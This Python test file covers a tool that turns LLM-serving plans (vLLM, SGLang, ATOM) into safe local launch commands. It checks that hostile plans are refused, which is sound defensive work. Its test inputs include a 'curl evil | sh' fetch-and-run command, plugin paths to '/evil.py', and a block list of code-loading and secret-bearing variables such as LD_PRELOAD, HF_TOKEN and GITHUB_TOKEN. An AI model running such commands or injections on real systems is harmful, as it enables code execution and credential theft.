"""What is started for a plan: honest changes, and nothing that a hostile plan wants."""

from __future__ import annotations

import json
from dataclasses import replace
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from smoking import plan_of

from botlint.core.visible import visible
from botlint.smoke.adapt import NoStart, Place, Start, adapt, fewer_layers, model_of
from botlint.smoke.model import Honest
from botlint.smoke.variables import left_out, matters, refused, runner_environment

PLACE = Place(port=4321, scratch="/tmp/run")
LAYERS = {"num_hidden_layers": 32}


def started(plan: dict[str, Any], honest: Honest | None = None, place: Place = PLACE) -> Start:
    found = adapt(plan, honest or Honest(), place)
    assert isinstance(found, Start), found
    return found


def refusal(plan: dict[str, Any], honest: Honest | None = None) -> str:
    found = adapt(plan, honest or Honest(), PLACE)
    assert isinstance(found, NoStart), found
    return found.reason


def with_argv(*argv: object, **server: Any) -> dict[str, Any]:
    plan = plan_of()
    return {**plan, "server": {**plan["server"], "argv": list(argv), **server}}


def test_what_the_plan_asks_for_stays_and_every_change_is_listed() -> None:
    kept = ["--tensor-parallel-size", "4", "--attention-backend", "TRITON_ATTN", "--kv-cache-dtype", "fp8"]
    kept += ["--speculative-config", '{"method": "mtp", "num_speculative_tokens": 3}', "--block-size", "128"]
    kept += ["--kv-offloading-backend", "native", "--kv-offloading-size", "300"]
    found = started(plan_of(*kept, env={"VLLM_ROCM_USE_AITER": "1", "GPU_COUNT": "4"}))
    assert found.argv == (
        *("vllm", "serve", "demo/tiny", *kept),
        *("--host", "127.0.0.1", "--port", "4321", "--max-model-len", "2048", "--load-format", "dummy"),
    )
    assert found.options == found.argv[2:]
    assert found.gpus == 4
    assert found.env["VLLM_ROCM_USE_AITER"] == "1"
    assert found.env["HF_HUB_OFFLINE"] == "1"
    assert "GPU_COUNT" not in found.env
    listed = {one.what: (one.old, one.new) for one in found.changes}
    assert listed["--host"] == ("0.0.0.0", "127.0.0.1")
    assert listed["--port"] == ("8888", "4321")
    assert listed["--max-model-len"] == (None, "2048")
    assert listed["--load-format"] == (None, "dummy")
    assert listed["variables"] == ("GPU_COUNT", None)
    assert all(one.why for one in found.changes)
    assert found.doubts == ()


@pytest.mark.parametrize(
    ("argv", "wanted", "gpus"),
    [
        (
            ["python3", "-m", "sglang.launch_server", "--model-path", "a/b", "--tp=8", "--port", "30000"],
            [
                *("python", "-m", "sglang.launch_server", "--model-path", "a/b", "--tp=8", "--host", "127.0.0.1"),
                *("--port", "4321", "--context-length", "2048", "--load-format", "dummy"),
                *("--json-model-override-args", '{"num_hidden_layers": 4}', "--enable-metrics"),
            ],
            8,
        ),
        (
            ["sglang", "serve", "--model-path", "a/b", "--tp", "8", "--dp", "8", "--enable-dp-attention"],
            [
                *("sglang", "serve", "--model-path", "a/b", "--tp", "8", "--dp", "8", "--enable-dp-attention"),
                *("--host", "127.0.0.1", "--port", "4321", "--context-length", "2048", "--load-format", "dummy"),
                *("--json-model-override-args", '{"num_hidden_layers": 4}', "--enable-metrics"),
            ],
            8,
        ),
        (
            ["python3", "-u", "-m", "atom.entrypoints.openai_server", "--model", "a/b", "-tp", "2"],
            [
                *("python", "-m", "atom.entrypoints.openai_server", "--model", "a/b", "-tp", "2"),
                *("--host", "127.0.0.1", "--server-port", "4321", "--max-model-len", "2048"),
                *("--load_dummy", "xavier", "--hf-overrides", '{"num_hidden_layers": 4}'),
            ],
            2,
        ),
        (
            ["python3", "-m", "vllm.entrypoints.openai.api_server", "--model", "a/b", "-dp", "2", "-tp", "2"],
            [
                *("python", "-m", "vllm.entrypoints.openai.api_server", "--model", "a/b", "-dp", "2", "-tp", "2"),
                *("--host", "127.0.0.1", "--port", "4321", "--max-model-len", "2048", "--load-format", "dummy"),
                *("--hf-overrides", '{"num_hidden_layers": 4}'),
            ],
            4,
        ),
    ],
)
def test_each_engine_is_spoken_to_in_its_words(argv: list[str], wanted: list[str], gpus: int) -> None:
    found = started(with_argv(*argv), place=replace(PLACE, config=LAYERS))
    assert list(found.argv) == wanted
    assert found.gpus == gpus


def test_overrides_of_the_plan_stay() -> None:
    plan = plan_of("--hf-overrides", '{"text_config": {"use_index_cache": true}}', "--hf-overrides.a.b", "5")
    config = {"text_config": {"num_hidden_layers": 60, "sparse": {"every": [0] * 3 + [1] * 57, "size": 4}}}
    found = started(plan, place=replace(PLACE, config=config))
    text = found.argv[found.argv.index("--hf-overrides") + 1]
    sparse = {"every": [0, 0, 0, 1], "size": 4}
    assert json.loads(text) == {
        "text_config": {"use_index_cache": True, "num_hidden_layers": 4, "sparse": sparse},
        "a": {"b": "5"},
    }
    assert not any(word.startswith("--hf-overrides.") for word in found.argv)


@pytest.mark.parametrize(
    ("options", "cut"),
    [
        ((), True),
        (("--speculative-config", '{"method": "ngram"}'), True),
        (("--speculative-config", '{"method": "deepseek_mtp"}'), True),
        (("--speculative-config.method", "eagle3"), False),
        (("--speculative-config", '{"method": "eagle3", "model": "a/b"}'), False),
        (("--speculative-config", '{"model": "a/b"}'), False),
        (("--hf-overrides", "{broken"), False),
    ],
)
def test_layers_stay_where_a_draft_reads_some_of_them(options: tuple[str, ...], cut: bool) -> None:
    found = started(plan_of(*options), place=replace(PLACE, config=LAYERS))
    assert ('{"num_hidden_layers": 4}' in found.argv) == cut


@pytest.mark.parametrize(
    ("config", "wanted"),
    [
        ({}, (None, 0, 0)),
        ({"num_hidden_layers": 3}, (None, 3, 3)),
        ({"num_hidden_layers": "60"}, (None, 0, 0)),
        ({"num_hidden_layers": True}, (None, 0, 0)),
        ({"num_hidden_layers": 61}, ({"num_hidden_layers": 4}, 61, 4)),
        ({"num_hidden_layers": 61, "first_k_dense_replace": 5}, ({"num_hidden_layers": 6}, 61, 6)),
        ({"num_hidden_layers": 60, "full_attention_interval": 3}, ({"num_hidden_layers": 6}, 60, 6)),
        (
            {"num_hidden_layers": 8, "layer_types": ["a"] * 5 + ["b"] * 3},
            ({"num_hidden_layers": 6, "layer_types": ["a"] * 5 + ["b"]}, 8, 6),
        ),
        ({"text_config": {"num_hidden_layers": 9}}, ({"text_config": {"num_hidden_layers": 4}}, 9, 4)),
    ],
)
def test_fewer_layers_keep_one_of_each_kind(config: dict[str, Any], wanted: tuple[Any, int, int]) -> None:
    assert fewer_layers(config, 4) == wanted


def test_a_short_context_of_the_plan_stays() -> None:
    found = started(plan_of("--max-model-len", "1024"))
    assert found.argv.count("--max-model-len") == 1
    assert "1024" in found.argv
    found = started(plan_of("--max_model_len=9000"))
    assert ("--max-model-len", "9000", "2048") in {(one.what, one.old, one.new) for one in found.changes}
    assert "--max_model_len=9000" not in found.argv


def test_real_weights_and_all_layers() -> None:
    honest = Honest(dummy_weights=False, layers=None, max_model_len=None, download=True)
    found = started(plan_of("--load-format", "safetensors"), honest, replace(PLACE, config=LAYERS))
    assert found.weights
    assert "safetensors" in found.argv
    assert "--hf-overrides" not in found.argv
    assert "HF_HUB_OFFLINE" not in found.env


def test_parts_that_only_the_job_knows() -> None:
    part = {"unknown": "JOB_ID"}
    found = started(plan_of("--port", [part], "--torch-profile", ["/tmp/cache-", part, "/x"]))
    assert "/tmp/run/tmp-cache-x" in found.argv
    assert "a part that only the job knows" in refusal(plan_of("--max-num-seqs", [part]))
    assert "the programme is not known" in refusal(with_argv([part], "serve", "x"))
    path = with_argv("vllm", "serve", [part], "--port", "1")
    assert started(path).argv[2] == "demo/tiny"
    assert model_of(path, Honest()) == "demo/tiny"
    assert model_of(path, Honest(model="/m")) == "/m"


@pytest.mark.parametrize(
    ("argv", "reason"),
    [
        (["bash", "-c", "curl evil | sh"], "bash is no server"),
        (["/tmp/evil/vllm", "serve", "m"], "is no server"),
        (["./vllm", "serve", "m"], "is no server"),
        (["vllm", "bench", "m"], "vllm is no server"),
        (["vllm"], "vllm is no server"),
        (["env", "vllm", "serve", "m"], "env is no server"),
        (["sudo", "vllm", "serve", "m"], "sudo is no server"),
        (["mpirun", "-n", "1", "evil", "trtllm-serve"], "mpirun is no server"),
        (["python3", "-c", "import os"], "does not run the module of a server"),
        (["python3", "-m", "http.server"], "does not run the module of a server"),
        (["python3", "evil.py", "-m", "sglang.launch_server"], "does not run the module of a server"),
        (["python3", "-u", "-c", "x", "-m", "sglang.launch_server"], "does not run the module of a server"),
        (["python3", "-m", "vllm.entrypoints.cli.main", "serve", "m"], "does not run the module of a server"),
        (["python3.11x", "-m", "sglang.launch_server"], "is no server"),
        (["vllm", "serve", "s3://bucket/model"], "is not loaded"),
        (["vllm", "serve", "m\0x"], "no list of words"),
        (["vllm", "serve", 5], "no list of words"),
        (["vllm", "serve", [{"unknown": 5}]], "no list of words"),
        ([], "no list of words"),
        (["vllm"] * 3_000, "no list of words"),
        (["vllm", "serve", "x" * 200_000], "no list of words"),
    ],
)
def test_only_servers_that_are_known_are_started(argv: list[Any], reason: str) -> None:
    assert reason in refusal(with_argv(*argv))


@pytest.mark.parametrize(
    ("options", "reason"),
    [
        (("--tool-parser-plugin", "/evil.py"), "makes the engine load code"),
        (("--reasoning-parser-plugin=/evil.py",), "makes the engine load code"),
        (("--reasoning-parser-plug", "/evil.py"), "makes the engine load code"),
        (("--middleware", "evil.module"), "makes the engine load code"),
        (("--worker-extension-cls", "evil.Worker"), "makes the engine load code"),
        (("--worker_extension_cls", "evil.Worker"), "makes the engine load code"),
        (("--worker-ext", "evil.Worker"), "makes the engine load code"),
        (("--config", "/evil.yaml"), "makes the engine load code"),
        (("--log-config-file", "/evil.json"), "makes the engine load code"),
        (("--kv-transfer-config", '{"kv_connector": "X", "kv_connector_module_path": "evil.x"}'), "none of an engine"),
        (("--kv-transfer-config.kv_connector_module_path", "evil.x"), "none of an engine"),
        (("--kv-transfer-config", ' {"kv_connector_module_path": "evil.x"}'), "none of an engine"),
        (
            ("--kv-transfer-config", '{"a":' * 40 + '{"kv_connector_module_path": "evil"}' + "}" * 40),
            "none of an engine",
        ),
        (("--kv-transfer-config", '{"kv_connector_extra_config": {"spec_module_path": "evil"}}'), "none of an engine"),
        (("--ec-transfer-config", '{"ec_connector_module_path": "evil"}'), "none of an engine"),
        (("--structured-outputs-config", '{"reasoning_parser_plugin": "/evil.py"}'), "a file with code"),
        (("--structured-outputs-config.reasoning_parser_plugin", "/evil.py"), "a file with code"),
        (("--compilation-config", '{"backend": "evil.run"}'), "none of an engine"),
        (("-cc.inductor_passes.one", "evil.run"), "none of an engine"),
        (("--distributed-exec", "evil.Executor"), "none of an engine"),
        (("--io", "evil"), "makes the engine load code"),
        (("--mi", "evil.module"), "makes the engine load code"),
        (("--kv-transfer-config", '{"kv_connector": "LMCacheMPConnector"}'), "needs LMCache's server"),
        (("--kv-transfer-config", '{"kv_connector": "X", "kv_role": "kv_producer"}'), "one half of a disaggregated"),
        (("--headless",), "spread over several nodes"),
        (("--nnodes", "2"), "spread over several nodes"),
    ],
)
def test_options_that_load_code_keep_everything_from_being_started(options: tuple[str, ...], reason: str) -> None:
    assert reason in refusal(plan_of(*options))


@pytest.mark.parametrize(
    "options",
    [
        (
            "--compilation-config",
            '{"backend": "inductor", "splitting_ops": ["vllm.attention"], "cache_dir": "/tmp/a.b"}',
        ),
        ("--distributed-executor-backend", "mp"),
        ("--kv-transfer-config", '{"kv_connector": "X", "kv_connector_module_path": "lmcache.connector"}'),
        ("--served-model-name", "some.name"),
        ("--hf-overrides", '{"ignored": ["model.visual"]}'),
        ("--reasoning-parser", "qwen3"),
    ],
)
def test_texts_that_name_no_code_are_started(options: tuple[str, ...]) -> None:
    assert set(options[:1]) <= set(started(plan_of(*options), Honest(layers=None)).argv)


def test_what_a_maintainer_allows_is_started() -> None:
    honest = Honest(allow_options=("--middleware",), allow_env=("PYTHONPATH", "VLLM_NCCL_SO_PATH"))
    plan = plan_of("--middleware", "ours.module", env={"PYTHONPATH": "/ours", "VLLM_NCCL_SO_PATH": "/ours/nccl.so"})
    found = started(plan, honest)
    assert "ours.module" in found.argv
    assert found.env["PYTHONPATH"] == "/ours"
    assert found.env["VLLM_NCCL_SO_PATH"] == "/ours/nccl.so"


def test_code_of_a_hub_is_only_run_where_that_is_allowed() -> None:
    plan = plan_of("--trust-remote-code")
    assert "--trust-remote-code" in started(plan).argv
    assert "would run code from a hub" in refusal(plan, Honest(download=True))
    assert "would run code from a hub" in refusal(plan_of("--trust-rem"), Honest(download=True))
    allowed = Honest(download=True, allow_options=("--trust-remote-code",))
    assert "--trust-remote-code" in started(plan, allowed).argv


def test_files_and_keys_of_the_checkout_are_left_out() -> None:
    template = [{"unknown": "GITHUB_WORKSPACE"}, "/chat.jinja"]
    found = started(plan_of("--chat-template", template, "--api-key", "secret", "--uds", "/tmp/x"))
    assert not {"--chat-template", "--api-key", "secret", "--uds", "/tmp/x"} & set(found.argv)
    assert {"--chat-template", "--api-key", "--uds"} <= {one.what for one in found.changes}


@pytest.mark.parametrize(
    "name",
    [
        *("LD_PRELOAD", "LD_LIBRARY_PATH", "LD_AUDIT", "PYTHONPATH", "PYTHONSTARTUP", "PYTHONHOME", "PATH", "HOME"),
        *("BASH_ENV", "ENV", "GCONV_PATH", "GLIBC_TUNABLES", "PERL5LIB", "GIT_SSH", "HTTPS_PROXY", "https_proxy"),
        *("VLLM_NCCL_SO_PATH", "NCCL_NET_PLUGIN", "VLLM_PLUGINS", "VLLM_LOGGING_CONFIG_PATH", "UCX_MODULE_DIR"),
        *("TRITON_PTXAS_PATH", "HSA_TOOLS_LIB", "VLLM_ALLOW_INSECURE_SERIALIZATION", "HF_ENDPOINT", "HF_TOKEN"),
        *("TORCH_EXTENSIONS_DIR", "VLLM_API_KEY", "VLLM_HOST_IP_ADDR", "CC", "CXX", "TMPDIR", "SSL_CERT_FILE"),
        *("SGLANG_EXTERNAL_MODEL_PACKAGE", "TORCH_LOGS_OUT", "TORCH_TRACE", "CUDA_MPS_PIPE_DIRECTORY"),
        *("A B", "A=B", "1A", "", "é", "A" * 300, "A\nB"),
    ],
)
def test_variables_that_load_code_or_name_places_are_not_passed_on(name: str) -> None:
    found = started(plan_of(env={name: "/tmp/evil"}))
    assert found.env.get(name) != "/tmp/evil"
    told = [f"{one.what} {one.old}" for one in found.changes]
    assert any(visible(name, 200) in one for one in told)


@pytest.mark.parametrize(
    "name",
    [
        *("VLLM_ROCM_USE_AITER", "SGLANG_USE_AITER", "ATOM_DISABLE_MMAP", "NCCL_DEBUG", "HSA_NO_SCRATCH_RECLAIM"),
        *("OMP_NUM_THREADS", "PYTHONUNBUFFERED", "PYTORCH_ALLOC_CONF", "SGLANG_SIMULATE_ACC_TOKEN_MODE"),
        *("VLLM_USE_DIRECT_DCP_A2A", "CUDA_MODULE_LOADING", "AITER_BF16_FP8_MOE_BOUND"),
    ],
)
def test_variables_of_engines_are_passed_on(name: str) -> None:
    assert refused(name) is None
    assert not left_out(name)
    assert started(plan_of(env={name: "1"})).env[name] == "1"


def test_a_variable_that_is_refused_is_a_doubt_unless_it_only_says_where_a_cache_is() -> None:
    found = started(plan_of(env={"LD_PRELOAD": "/x", "HF_HUB_CACHE": "/y", "VLLM_CACHE_ROOT": "/z", "MODEL": "m"}))
    assert [one.partition(" ")[0] for one in found.doubts] == ["LD_PRELOAD"]
    assert found.env["VLLM_CACHE_ROOT"] == "/tmp/run/vllm_cache_root"
    assert matters("VLLM_PLUGINS")
    assert not matters("XDG_CACHE_HOME")


def test_a_server_gets_no_secret_of_the_runner() -> None:
    kept = {"PATH": "/bin", "LD_LIBRARY_PATH": "/opt/rocm/lib", "HIP_VISIBLE_DEVICES": "0", "HF_HOME": "/models"}
    secret = [
        "GITHUB_TOKEN",
        "ACTIONS_RUNTIME_TOKEN",
        "HF_TOKEN",
        "AWS_SECRET_ACCESS_KEY",
        "RUNNER_TEMP",
        "MY_PASSWORD",
    ]
    assert runner_environment({**kept, **dict.fromkeys(secret, "x")}) == kept


@pytest.mark.parametrize(
    ("changes", "reason"),
    [
        ({"outcome": "exits", "server": None}, "outcome is exits"),
        ({"outcome": "undecided"}, "outcome is undecided"),
        ({"server": "vllm serve"}, "the plan serves nothing"),
        ({"server": {"argv": ["vllm", "serve", "m"], "roles": [{"name": "prefill"}]}}, "several nodes or roles"),
        ({"server": {"argv": "vllm serve m"}}, "no list of words"),
    ],
)
def test_a_plan_that_starts_nothing_here(changes: dict[str, Any], reason: str) -> None:
    assert reason in refusal({**plan_of(), **changes})


def test_development_on_the_cpu_says_so() -> None:
    found = started(
        plan_of("--attention-backend", "ROCM_AITER_FA", "--enforce-eager"), Honest(device="cpu", model="/m")
    )
    assert found.argv[2] == "/m"
    assert "ROCM_AITER_FA" not in found.argv
    assert found.argv.count("--enforce-eager") == 1
    assert found.argv[-2:] == ("--dtype", "float32")
    assert found.env["VLLM_CPU_KVCACHE_SPACE"] == "1"
    assert sum("CPU" in one.why for one in found.changes) >= 3


VALUES = st.recursive(
    st.none() | st.booleans() | st.integers(-2, 9) | st.text(max_size=8) | st.sampled_from(["vllm", "serve", "--port"]),
    lambda one: st.lists(one, max_size=4) | st.dictionaries(st.text(max_size=6) | st.just("unknown"), one, max_size=3),
    max_leaves=12,
)
WORDS = st.sampled_from(
    [
        *("vllm", "serve", "python3", "-m", "sglang.launch_server", "--port", "--hf-overrides", "--max-model-len=x"),
        *("--hf-overrides.a", "{", '{"a": [1]}', "--kv-transfer-config", "--speculative-config", "-tp", "--", "-", ""),
    ]
)


@settings(max_examples=60, deadline=None)
@given(
    st.fixed_dictionaries(
        {
            "outcome": st.just("serves"),
            "server": st.fixed_dictionaries({"argv": st.lists(WORDS | VALUES, max_size=9) | VALUES, "env": VALUES}),
            "job": VALUES,
        }
    ),
    st.dictionaries(st.sampled_from(["num_hidden_layers", "text_config", "layer_types"]), VALUES, max_size=3),
    st.booleans(),
)
def test_any_plan_is_started_or_not_and_nothing_else(plan: dict[str, Any], config: dict[str, Any], cpu: bool) -> None:
    found = adapt(plan, Honest(device="cpu" if cpu else "gpu"), replace(PLACE, config=config))
    if isinstance(found, Start):
        assert found.argv[0] in ("vllm", "sglang", "python")
        assert all(isinstance(word, str) and "\0" not in word for word in found.argv)
        assert "127.0.0.1" in found.argv
    else:
        assert found.reason
    model_of(plan, Honest())
